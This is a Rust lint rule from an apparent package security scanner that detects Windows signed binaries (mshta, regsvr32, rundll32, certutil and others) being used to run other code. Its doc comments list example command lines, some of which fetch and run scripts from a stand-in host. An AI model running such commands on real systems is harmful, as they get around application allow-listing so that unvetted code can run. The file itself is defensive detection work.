//! `mal-lolbin-exec`

use crate::lint::{Context, Findings, Severity, lint};
use crate::package::{Package, RunCall};
use crate::script::Language;
use crate::script::command_line::Through;

lint! {
    /// A program of Windows is used to run other code.
    ///
    /// ## Why it matters
    ///
    /// `mshta`, `regsvr32`, `rundll32` and others are signed by Microsoft and can run a script, a
    /// library or a program that is not. Whoever writes them into a command wants to get past rules
    /// that let only known programs run.
    ///
    /// ## Fires
    ///
    /// ```batch
    /// mshta.exe https://cdn.fabrikam.example/setup.hta
    /// regsvr32 /s /n /u /i:https://cdn.fabrikam.example/a.sct scrobj.dll
    /// rundll32 url.dll,FileProtocolHandler C:\Windows\Temp\a.exe
    /// rundll32 shell32.dll,ShellExec_RunDLL C:\Windows\Temp\a.exe
    /// cmstp.exe /s C:\Windows\Temp\vpn.inf
    /// odbcconf /a {REGSVR C:\Windows\Temp\a.dll}
    /// pcalua.exe -a C:\Windows\Temp\a.exe
    /// ```
    ///
    /// As a warning:
    ///
    /// ```batch
    /// wmic process call create "C:\Windows\Temp\a.exe"
    /// forfiles /p C:\Windows /m notepad.exe /c "powershell -c Get-Date"
    /// certutil -decode setup.txt C:\Windows\Temp\setup.exe
    /// ```
    ///
    /// ```powershell
    /// Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'a.exe' }
    /// ```
    ///
    /// ## Stays quiet
    ///
    /// ```batch
    /// rem mshta https://cdn.fabrikam.example/setup.hta
    /// rundll32 printui.dll,PrintUIEntry /ga /n\\print\floor1
    /// regsvr32 /s "C:\Program Files\Fabrikam\reader.dll"
    /// forfiles /p C:\Fabrikam\logs /m *.log /d -30 /c "cmd /c del @path"
    /// wmic process where name='reader.exe' get processid
    /// certutil -decode root.txt C:\Windows\Temp\root.cer
    /// ```
    ///
    /// ## What to do
    ///
    /// Call the program itself, or PowerShell with a script file that the package carries.
    ///
    /// ## References
    ///
    /// * <https://lolbas-project.github.io/>
    pub(crate) LOLBIN_EXEC {
        id: "mal-lolbin-exec", category: ScriptsMalicious,
        severity: Error, confidence: Likely, attack: ["T1218"], since: "0.1.0",
        check,
    }
}

fn check(package: &Package, _: &Context, findings: &mut Findings<'_>) {
    for call in package.calls() {
        if !call.is_program() {
            if creates_process(&call) {
                findings
                    .at(call)
                    .say(format!(
                        "a program is started through {} of Win32_Process, which is a way around controls",
                        call.program.text()
                    ))
                    .lowered_to(Severity::Warning)
                    .help("call the program itself, or a script that the package carries");
            }
            continue;
        }
        if let Some(target) = unpacked(&call) {
            findings
                .at(call)
                .say(format!(
                    "certutil makes {target} out of text, so that nobody sees the program in the \
                     package"
                ))
                .lowered_to(Severity::Warning)
                .help("carry the file itself");
            continue;
        }
        let Some((what, is_grave)) = used(package, &call) else { continue };
        let finding = findings
            .at(call)
            .say(format!("{} is used to run {what}, which is a way around controls", call.name))
            .help("call the program itself, or a script that the package carries");
        if !is_grave {
            drop(finding.lowered_to(Severity::Warning));
        }
    }
}

/// Whether a command of PowerShell, or a method, has WMI start a program.
fn creates_process(call: &RunCall<'_>) -> bool {
    // `mshta` itself is told then.
    if call.through().any(|through| through == Through::Mshta) {
        return false;
    }
    let inner = call.runs().next();
    inner.is_some_and(|inner| inner.through().next() == Some(Through::ProcessCreate))
}

/// The program or script that `certutil -decode` writes.
fn unpacked<'c>(call: &'c RunCall<'_>) -> Option<&'c str> {
    let decodes = call.is("certutil") && call.has_switch(&["decode", "decodehex"]);
    let target = call.texts().filter(|text| !text.starts_with(['-', '/'])).nth(1)?;
    let name = target.rsplit(['\\', '/']).next().unwrap_or(target);
    let (_, extension) = name.rsplit_once('.').filter(|_| decodes)?;
    let runs = ["exe", "dll", "com", "scr", "msi", "ps1", "bat", "cmd", "vbs", "js", "hta"];
    runs.iter().any(|one| one.eq_ignore_ascii_case(extension)).then_some(name)
}

/// What a program is used to run, and whether there is no other reason to use it.
fn used(package: &Package, call: &RunCall<'_>) -> Option<(&'static str, bool)> {
    let line = call.line.text().to_ascii_lowercase();
    let has = |word: &str| line.contains(word);
    let is_remote = || has("http://") || has("https://");
    // An argument that is a file with such a name.
    let file = |ending: &str| {
        call.texts().any(|text| text.to_ascii_lowercase().trim_end_matches('"').ends_with(ending))
    };
    let carried = |endings: &[&str]| {
        call.texts().find(|text| {
            let name = text.rsplit(['\\', '/']).next().unwrap_or(text);
            let lower = name.to_ascii_lowercase();
            endings.iter().any(|ending| lower.ends_with(ending))
                && package.assets.iter().any(|asset| asset.name.eq_ignore_ascii_case(name))
        })
    };
    Some(match call.name.as_str() {
        "mshta" if is_remote() => ("a page from the network", true),
        "mshta" if has("javascript:") || has("vbscript:") => ("a script in its command line", true),
        "regsvr32" if has("scrobj") || has("/i:http") || has("-i:http") => {
            ("a script component", true)
        }
        "rundll32" if has("javascript:") || has("vbscript:") => {
            ("a script in its command line", true)
        }
        "rundll32" if has("url.dll") && (has("fileprotocolhandler") || has("openurl")) => {
            ("another program", true)
        }
        "rundll32" if has("zipfldr") && has("routethecall") => ("another program", true),
        "rundll32" if has("shell32") && has("shellexec_rundll") => ("another program", true),
        "rundll32" if has("advpack") && has("launchinfsection") => ("what an INF file says", true),
        "wmic" if has("/format:") && is_remote() => ("a style sheet from the network", true),
        "cmstp" if file(".inf") => ("what an INF file says", true),
        "odbcconf" if has("regsvr") || file(".rsp") => ("a library", true),
        "pcalua" if call.option("a").is_some() => ("another program", true),
        "hh" if is_remote() || carried(&[".chm"]).is_some() => ("a help file with code", true),
        "msbuild" => {
            let project = carried(&[".xml", ".csproj", ".proj", ".targets"])?;
            let name = project.rsplit(['\\', '/']).next().unwrap_or(project);
            let source = package
                .scripts()
                .find(|source| package.script_name(source).eq_ignore_ascii_case(name));
            let is_inline = source.is_some_and(|source| source.text().contains("TaskFactory"));
            ("a project that the package carries", is_inline)
        }
        "wmic" if has("process") && has("call") && has("create") => ("a program", false),
        "installutil" if carried(&[".dll", ".exe"]).is_some() => ("a library", false),
        "forfiles" => {
            let is_script = |name: &str| Language::of_file(name).is_some();
            let runs = call.runs().any(|inner| {
                inner.is_any(&["powershell", "pwsh", "wscript", "cscript", "mshta"])
                    || inner.gets_from_network()
                    || inner.is_program() && is_script(inner.program.text())
            });
            runs.then_some(("commands", false))?
        }
        _ => return None,
    })
}
